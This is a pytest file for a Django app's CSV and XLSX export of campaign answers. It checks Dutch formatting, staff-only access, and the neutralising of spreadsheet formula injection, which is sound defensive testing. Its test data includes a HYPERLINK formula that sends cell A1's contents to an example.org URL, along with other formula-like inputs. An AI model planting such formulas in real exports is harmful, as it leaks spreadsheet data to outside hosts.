"""Exporting a campaign's answers with the contact data, as CSV and XLSX, safe to open in a spreadsheet."""

import csv
import io
from datetime import date, datetime
from datetime import timezone as dt_timezone
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.models import Recipient
from campaigns.services.answer_export import answer_value
from campaigns.services.spreadsheets import DATE_FORMAT, DATETIME_FORMAT
from cms.factories import CallFormFieldFactory
from cms.models import CallResponse

from . import ledger

HEADER = [
    "Ontvanger: naam",
    "Ontvanger: e-mailadres",
    "Ontvanger: organisatie",
    "Ontvanger: soort organisatie",
    "Ontvanger: regio",
    "Gereageerd op",
    "Gewijzigd op",
    "Naam",
    "E-mailadres",
    "Organisatie",
    "Soort organisatie",
    "Beschrijving van het initiatief",
    "Startdatum",
    "Mag gepubliceerd worden",
]
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Klik")'


@pytest.fixture
def answered(campaign):
    ledger.start(campaign)
    anna = ledger.recipient(campaign, "Anna de Boer", "netwerk", "utrecht", organisation="Netwerk Utrecht", answered=True, consent=True)
    mallory = ledger.recipient(
        campaign,
        "@Mallory",
        "gemeente",
        "gelderland",
        organisation="+Gemeente Arnhem",
        answered=True,
        form_data=ledger.answers(name="Mallory", beschrijving_van_het_initiatief=FORMULA, startdatum="-1"),
    )
    ledger.recipient(campaign, "Cor Zonder Antwoord")
    return anna, mallory


def read_csv(content):
    """UTF-8 with a byte order mark and semicolons, as Dutch Excel opens it."""
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_csv_has_one_row_per_answer_with_contact_data(admin_client, campaign, answered):
    anna, mallory = answered
    CallResponse.objects.filter(pk=anna.response_id).update(changed_at=datetime(2026, 12, 1, 9, 30, tzinfo=dt_timezone.utc))

    response = admin_client.get(reverse("campaigns_answers_csv", args=[campaign.pk]))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith(f'attachment; filename="antwoorden-campagne-{campaign.pk}-')
    header, *rows = read_csv(response.content)
    assert header == HEADER
    assert len(rows) == 2
    row = rows[0]
    assert row[:5] == ["Anna de Boer", anna.email, "Netwerk Utrecht", "Netwerk palliatieve zorg", "Utrecht"]
    assert row[6] == "2026-12-01 10:30"  # changed at, in Dutch time
    assert rows[1][6] == ""
    assert row[11] == ledger.DESCRIPTION
    assert row[-1] == "ja"
    assert "Cor Zonder Antwoord" not in response.content.decode("utf-8-sig")


def test_csv_neutralises_formulas(admin_client, campaign, answered):
    response = admin_client.get(reverse("campaigns_answers_csv", args=[campaign.pk]))

    row = read_csv(response.content)[2]
    assert row[0] == "'@Mallory"
    assert row[2] == "'+Gemeente Arnhem"
    assert row[11] == "'" + FORMULA
    assert row[12] == "'-1"
    assert row[-1] == "nee"


def test_xlsx_holds_the_same_rows_as_text_never_as_formulas(admin_client, campaign, answered):
    anna, _ = answered

    response = admin_client.get(reverse("campaigns_answers_xlsx", args=[campaign.pk]))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADER
    assert rows[1][:2] == ["Anna de Boer", anna.email]
    formula_cell = sheet.cell(row=3, column=12)
    assert (formula_cell.value, formula_cell.data_type) == (FORMULA, "s")
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}


def test_export_is_for_signed_in_campaign_staff_only(client, campaign, answered):
    response = client.get(reverse("campaigns_answers_csv", args=[campaign.pk]))

    assert response.status_code == 302
    assert "/admin/login/" in response.url


def test_yes_no_answers_read_as_dutch_words():
    answers = [answer_value(True, "checkbox"), answer_value(False, "checkbox"), answer_value(["a", "b"], "checkboxes")]
    assert answers == ["ja", "nee", "a, b"]


def test_xlsx_stores_times_dates_and_numbers_typed_and_formula_looking_text_as_text(admin_client, campaign):
    CallFormFieldFactory(page=campaign.call_page, label="Aantal vrijwilligers", field_type="number", required=False, sort_order=99)
    ledger.start(campaign)
    anna = ledger.recipient(
        campaign,
        "Anna de Boer",
        answered=True,
        form_data=ledger.answers(name="Anna", startdatum="2027-03-01", aantal_vrijwilligers="12"),
    )
    ledger.recipient(
        campaign,
        "Mallory",
        answered=True,
        form_data=ledger.answers(name="Mallory", startdatum="-1", aantal_vrijwilligers="-3", organisatie="-2+3"),
    )
    Recipient.objects.filter(pk=anna.pk).update(answered_at=datetime(2026, 7, 1, 8, 15, tzinfo=dt_timezone.utc))
    CallResponse.objects.filter(pk=anna.response_id).update(changed_at=datetime(2026, 12, 1, 9, 30, tzinfo=dt_timezone.utc))

    response = admin_client.get(reverse("campaigns_answers_xlsx", args=[campaign.pk]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    anna_row, mallory_row = ({header[index]: cell for index, cell in enumerate(row)} for row in sheet.iter_rows(min_row=2))
    # Dutch time, summer and winter: Excel has no time zones.
    answered, changed = anna_row["Gereageerd op"], anna_row["Gewijzigd op"]
    assert (answered.is_date, answered.value, answered.number_format) == (True, datetime(2026, 7, 1, 10, 15), DATETIME_FORMAT)
    assert (changed.is_date, changed.value) == (True, datetime(2026, 12, 1, 10, 30))
    start = anna_row["Startdatum"]
    assert (start.is_date, start.value.date(), start.number_format) == (True, date(2027, 3, 1), DATE_FORMAT)
    volunteers = anna_row["Aantal vrijwilligers"]
    assert (volunteers.data_type, volunteers.value) == ("n", 12)
    assert (mallory_row["Aantal vrijwilligers"].data_type, mallory_row["Aantal vrijwilligers"].value) == ("n", -3)
    for text in ("Startdatum", "Organisatie", "Ontvanger: naam", "Mag gepubliceerd worden"):
        assert mallory_row[text].data_type == "s", text
    assert (mallory_row["Startdatum"].value, mallory_row["Organisatie"].value) == ("-1", "-2+3")
    assert mallory_row["Gewijzigd op"].value is None


def test_csv_keeps_dates_and_numbers_as_written(admin_client, campaign):
    CallFormFieldFactory(page=campaign.call_page, label="Aantal vrijwilligers", field_type="number", required=False, sort_order=99)
    ledger.start(campaign)
    ledger.recipient(campaign, "Anna", answered=True, form_data=ledger.answers(startdatum="2027-03-01", aantal_vrijwilligers="12.50"))

    header, row = read_csv(admin_client.get(reverse("campaigns_answers_csv", args=[campaign.pk])).content)

    assert row[header.index("Startdatum")] == "2027-03-01"
    assert row[header.index("Aantal vrijwilligers")] == "12.50"
    assert answer_value("12.50", "number") == Decimal("12.50")
